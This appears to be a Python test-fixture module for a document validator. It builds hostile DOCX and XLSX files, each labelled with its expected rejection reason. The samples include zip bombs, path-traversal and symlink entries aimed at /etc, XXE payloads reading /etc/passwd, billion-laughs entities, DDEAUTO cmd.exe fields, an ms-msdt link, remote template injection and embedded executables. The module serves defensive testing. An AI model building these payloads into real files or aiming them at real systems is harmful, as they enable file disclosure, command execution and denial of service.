"""DOCX and XLSX: archives that lie or burst, XML that calls out, parts that act."""

import io
import random
import struct
import zipfile

from tests.faults.hostile.others import ELF, HTML, PE, SVG
from tests.files.samples import (
    CONTENT_TYPES,
    DOCUMENT,
    docx,
    parts_of,
    pdf,
    relation,
    xlsx,
    zipped,
)

OFFICE = "http://schemas.microsoft.com/office/2006/relationships"
MICROSOFT = "application/vnd.ms-word"
EXTERNAL = "External"
XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
TENFOLD = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "lol">{TENFOLD}]><a>&l9;</a>'
PARAMETER = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % b SYSTEM "http://example.org/b.dtd"> %b;]><a/>'
)


def patched(package, mark, place, value, *, which=0):
    """The package with a field of one of its records (of that mark) overwritten."""
    content = bytearray(package)
    start = -1
    for _ in range(which + 1):
        start = content.index(mark, start + 1)
    content[start + place : start + place + len(value)] = value
    return bytes(content)


def central(place, value, **options):
    return lambda: patched(docx(), b"PK\x01\x02", place, value, **options)


def local(place, value):
    return lambda: patched(docx(), b"PK\x03\x04", place, value)


def with_parts(parts, package=docx):
    return lambda: zipped(parts_of(package()) | parts)


def with_entry(name, content=b"<a/>", *, twice=False):
    """A DOCX with one entry under a name that ``zipfile`` would tidy up."""

    def make():
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            for part, data in [
                *parts_of(docx()).items(),
                *[("x" * len(name), content)] * (1 + twice),
            ]:
                info = zipfile.ZipInfo(part)
                archive.writestr(info, data)
        return buffer.getvalue().replace(b"x" * len(name), name.encode())

    return make


def link():
    """An entry that is a symbolic link."""
    buffer = io.BytesIO(docx())
    with zipfile.ZipFile(buffer, "a") as archive:
        info = zipfile.ZipInfo("word/link.xml")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def sheet_of(size):
    """A workbook of 300 KB with one sheet of ``size`` bytes."""
    sheet = b"<worksheet><sheetData>" + b" " * size + b"</sheetData></worksheet>"
    return with_parts({"xl/worksheets/sheet1.xml": sheet}, xlsx)


def overlapping():
    """A workbook of 300 KB whose directory names one dense sheet thirty times: 9 GB unpacked."""
    bomb = sheet_of(300_000_000)()
    record_at = bomb.index(b"PK\x01\x02", bomb.rindex(b"xl/worksheets/sheet1.xml") - 46)
    name = b"xl/worksheets/sheet1.xml"
    record = bomb[record_at : record_at + 46 + len(name)]
    end = bytearray(bomb[-22:])
    more = b"".join(record.replace(b"sheet1.xml", b"sheet%02d.x" % n) for n in range(30))
    entries, size = struct.unpack_from("<HL", end, 10)
    struct.pack_into("<2HL", end, 8, entries + 30, entries + 30, size + len(more))
    return bomb[:-22] + more + bytes(end)


def large_in_all():
    """More than 200 MB in five parts, each of them only fifty times larger than packed."""
    noise = random.Random(1)  # noqa: S311 - the same bytes each time
    block = b"".join(noise.randbytes(60) + bytes(3000) for _ in range(700))
    return zipped(parts_of(docx()) | {f"word/media/{n}.bin": block * 21 for n in range(5)})


def gap():
    """Bytes between two entries, which the directory jumps over."""
    package = docx()
    cut = package.index(b"PK\x03\x04", 1)
    directory = package.index(b"PK\x01\x02")
    out = bytearray(package[:cut] + PE + package[cut:])
    shift, place = len(PE), directory + len(PE)
    while out[place : place + 4] == b"PK\x01\x02":
        offset = struct.unpack_from("<L", out, place + 42)[0]
        struct.pack_into("<L", out, place + 42, offset + (shift if offset else 0))
        place += 46 + sum(struct.unpack_from("<3H", out, place + 28))
    struct.pack_into("<L", out, place + 16, directory + shift)
    return bytes(out)


def commented():
    buffer = io.BytesIO(docx())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.comment = HTML
    return buffer.getvalue()


def other_main(main):
    return lambda: docx(main=main)


def body(text):
    return lambda: docx(body=text)


def linked(kind, target, mode=EXTERNAL):
    return lambda: docx(document_relations=relation(kind, target, mode=mode))


def workbook_linked(kind, target="externalLinks/x.xml", mode=""):
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{relation(kind, target, mode=mode)}</Relationships>"
    )
    return with_parts({"xl/worksheets/_rels/sheet1.xml.rels": rels}, xlsx)


def field(text):
    return body(f"<w:p><w:r><w:instrText>{text}</w:instrText></w:r></w:p>")


def presentation():
    return docx(
        main="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    )


BOMBS = [
    ("figures.xlsx", sheet_of(300_000_000), "archive_ratio"),
    ("figures.xlsx", overlapping, "archive_broken"),
    ("note.docx", with_parts({"word/media/a.bin": bytes(50_000_000)}), "archive_ratio"),
    ("note.docx", large_in_all, "archive_size"),
    ("note.docx", with_parts({f"word/{n}.xml": "<a/>" for n in range(3000)}), "archive_entries"),
    ("note.docx", with_parts({"word/a.zip": zipped({"b": bytes(9_000_000)})}), "office_embedded"),
    ("note.docx", with_parts({"word/media/a.png": zipped({"b": b"c"})}), "office_embedded"),
]
ARCHIVES = [
    ("note.docx", with_entry("../../../etc/cron.d/evil.xml"), "archive_names"),
    ("note.docx", with_entry("/etc/cron.d/evil.xml"), "archive_names"),
    ("note.docx", with_entry("word\\..\\evil.xml"), "archive_names"),
    ("note.docx", with_entry("C:evil.xml"), "archive_names"),
    ("note.docx", with_entry("word/a.xml\x00.exe"), "archive_names"),
    ("note.docx", with_entry("word/Document.xml"), "archive_names"),
    ("note.docx", link, "archive_names"),
    ("note.docx", central(8, b"\x01"), "encrypted"),
    ("note.docx", local(6, b"\x01"), "encrypted"),
    ("note.docx", central(10, b"\x0c"), "archive_broken"),
    ("note.docx", central(10, b"\x63"), "archive_broken"),
    ("note.docx", central(16, b"\x00\x00\x00\x00"), "archive_broken"),
    ("note.docx", central(24, b"\x01\x00\x00\x00"), "archive_broken"),
    ("note.docx", central(24, b"\xff\xff\xff\x7f"), "archive_broken"),
    ("note.docx", central(20, b"\xff\xff\xff\xff"), "archive_broken"),
    ("note.docx", local(30, b"[Content_Types].xmx"), "archive_broken"),
    ("note.docx", lambda: patched(docx(), b"PK\x05\x06", 8, b"\x01\x00\x01\x00"), "archive_extra"),
    ("note.docx", lambda: patched(docx(), b"PK\x05\x06", 10, b"\xff\xff"), "archive_broken"),
    ("note.docx", gap, "archive_extra"),
    ("note.docx", commented, "archive_extra"),
    ("note.docx", lambda: docx() + PE, "archive_extra"),
    ("note.docx", lambda: docx() + docx(), "archive_extra"),
    ("note.docx", lambda: PE + docx(), "program"),
    ("note.docx", lambda: b"hello " + docx(), "not_the_kind"),
    ("note.docx", lambda: docx()[:500], "archive_broken"),
    ("figures.xlsx", lambda: xlsx()[:-30], "archive_broken"),
]
XML = [
    ("note.docx", with_parts({"word/document.xml": XXE}), "xml_doctype"),
    ("note.docx", with_parts({"word/document.xml": LAUGHS}), "xml_doctype"),
    ("note.docx", with_parts({"word/document.xml": PARAMETER}), "xml_doctype"),
    ("note.docx", with_parts({"word/document.xml": XXE.encode("utf-16")}), "xml_doctype"),
    ("note.docx", with_parts({"[Content_Types].xml": XXE}), "xml_doctype"),
    ("note.docx", with_parts({"_rels/.rels": LAUGHS}), "xml_doctype"),
    ("note.docx", with_parts({"docProps/core.xml": XXE}), "xml_doctype"),
    ("figures.xlsx", with_parts({"xl/sharedStrings.xml": XXE}, xlsx), "xml_doctype"),
    ("figures.xlsx", with_parts({"xl/worksheets/sheet1.xml": LAUGHS}, xlsx), "xml_doctype"),
    ("note.docx", with_parts({"word/document.xml": "<a><b></a>"}), "xml_broken"),
    ("note.docx", with_parts({"word/document.xml": "<a>&unknown;</a>"}), "xml_broken"),
    ("note.docx", body("<w:p>" * 9000 + "</w:p>" * 9000), "xml_broken"),
    (
        "note.docx",
        with_parts({"word/document.xml": b'<?xml version="1.0" encoding="UTF-7"?><a/>'}),
        "xml_broken",
    ),
]
MACROS = [
    ("note.docx", other_main(f"{MICROSOFT}.document.macroEnabled.main+xml"), "office_macros"),
    (
        "note.docx",
        other_main(f"{MICROSOFT}.template.macroEnabledTemplate.main+xml"),
        "office_macros",
    ),
    (
        "figures.xlsx",
        other_main("application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        "office_macros",
    ),
    (
        "note.docx",
        lambda: docx(document_relations=relation(f"{OFFICE}/vbaProject", "vbaProject.bin")),
        "office_macros",
    ),
    (
        "note.docx",
        lambda: docx(
            types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        ),
        "office_macros",
    ),
    ("figures.xlsx", workbook_linked(f"{OFFICE}/xlMacrosheet"), "office_macros"),
    (
        "note.docx",
        lambda: docx(relations=relation(f"{OFFICE}/ui/extensibility", "x.xml")),
        "office_macros",
    ),
    (
        "note.docx",
        with_parts({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)}),
        "office_embedded",
    ),
]
REACHING_OUT = [
    ("note.docx", linked("attachedTemplate", "http://example.org/evil.dotm"), "office_external"),
    ("note.docx", linked("image", "http://example.org/track.png"), "office_external"),
    ("note.docx", linked("image", "\\\\192.0.2.1\\share\\a.png"), "office_external"),
    ("note.docx", linked("frame", "http://example.org/"), "office_external"),
    ("note.docx", linked("subDocument", "http://example.org/a.docx"), "office_external"),
    ("note.docx", linked("hyperlink", "javascript:alert(1)"), "office_external"),
    ("note.docx", linked("hyperlink", "file:///c:/windows/calc.exe"), "office_external"),
    ("note.docx", linked("hyperlink", "\\\\192.0.2.1\\share\\a.exe"), "office_external"),
    ("note.docx", linked("hyperlink", "ms-msdt:/id PCWDiagnostic"), "office_external"),
    ("note.docx", linked("image", "file:///etc/passwd", mode=""), "office_external"),
    ("note.docx", linked("mailMergeSource", "file:///c:/people.csv"), "office_external"),
    ("note.docx", field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), "office_external"),
    (
        "note.docx",
        body(
            "<w:p><w:r><w:instrText>DD</w:instrText></w:r>"
            "<w:r><w:instrText>EAUTO cmd</w:instrText></w:r></w:p>"
        ),
        "office_external",
    ),
    ("note.docx", body('<w:fldSimple w:instr="DDE cmd a b"/>'), "office_external"),
    ("note.docx", field("INCLUDEPICTURE http://example.org/a.png"), "office_external"),
    ("figures.xlsx", workbook_linked("externalLink"), "office_external"),
    (
        "figures.xlsx",
        workbook_linked("externalLinkPath", "http://example.org/a", EXTERNAL),
        "office_external",
    ),
    ("figures.xlsx", workbook_linked("connections"), "office_external"),
    ("figures.xlsx", workbook_linked("queryTable"), "office_external"),
]
CARRYING = [
    ("note.docx", linked("oleObject", "mhtml:http://example.org/a!x-usc:b"), "office_embedded"),
    ("note.docx", linked("oleObject", "embeddings/oleObject1.bin", mode=""), "office_embedded"),
    ("note.docx", linked("package", "embeddings/book.xlsx", mode=""), "office_embedded"),
    ("note.docx", linked("aFChunk", "chunk.html", mode=""), "office_embedded"),
    ("note.docx", linked("control", "activeX/activeX1.xml", mode=""), "office_active"),
    ("figures.xlsx", workbook_linked("control"), "office_active"),
    (
        "note.docx",
        lambda: docx(relations=relation(f"{OFFICE}/webextensiontaskpanes", "a.xml")),
        "office_active",
    ),
    ("note.docx", with_parts({"word/media/image1.png": PE}), "office_embedded"),
    ("note.docx", with_parts({"word/media/image1.bin": ELF}), "office_embedded"),
    ("note.docx", with_parts({"word/media/image1.jpeg": pdf()}), "office_embedded"),
    ("note.docx", with_parts({"word/setup.exe": PE}), "office_embedded"),
    ("note.docx", with_parts({"word/run.vbs": "MsgBox 1"}), "office_embedded"),
    ("note.docx", with_parts({"word/page.html": HTML}), "office_embedded"),
    ("note.docx", with_parts({"word/media/a.svg": SVG}), "office_active"),
    (
        "note.docx",
        with_parts({"word/media/a.svg": '<svg><rect onload="alert(1)"/></svg>'}),
        "office_active",
    ),
    ("note.docx", presentation, "other_office"),
    (
        "note.docx",
        other_main(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
        ),
        "other_office",
    ),
    (
        "note.docx",
        lambda: zipped(
            {
                "[Content_Types].xml": CONTENT_TYPES.format(main="a", more=""),
                "word/document.xml": DOCUMENT.format(more=""),
            }
        ),
        "archive",
    ),
]
FILES = [*BOMBS, *ARCHIVES, *XML, *MACROS, *REACHING_OUT, *CARRYING]
